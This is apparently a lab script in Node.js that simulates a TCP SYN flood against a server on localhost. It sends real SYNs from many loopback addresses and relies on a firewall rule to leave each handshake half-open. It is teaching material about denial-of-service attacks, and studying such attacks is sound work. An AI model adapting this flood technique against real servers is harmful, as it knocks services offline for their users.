// The flood. A real attacker forges SYNs from random addresses and never answers the
// SYN/ACKs. Node cannot forge packets, so we send real SYNs with connect() from many
// loopback addresses (all of 127.0.0.0/8 is this machine); the lab's nft rule drops the
// server's SYN/ACKs to every address but 127.0.0.1, so each handshake stays half-open:
// SYN-SENT here, SYN-RECV on the server.
import net from 'node:net';

const port = Number(process.env.PORT ?? 8818);
const syns = Number(process.env.SYNS ?? 32);
const firstHost = Number(process.env.FIRST_HOST ?? 2); // 127.0.0.<firstHost> onwards

for (let i = 0; i < syns; i++) {
  const socket = net.connect({ port, host: '127.0.0.1', localAddress: `127.0.0.${firstHost + i}` });
  // The kernel retries each SYN on its own; we never see a SYN/ACK, so nothing to do here.
  socket.on('connect', () => console.log(`attacker: 127.0.0.${firstHost + i} got through (a SYN/ACK was not dropped)`));
  socket.on('error', () => {});
}

// connect() calls run on the next tick; by setImmediate every SYN is on the wire.
setImmediate(() => {
  console.log(`attacker: sent ${syns} SYNs from 127.0.0.${firstHost}-127.0.0.${firstHost + syns - 1}`);
});
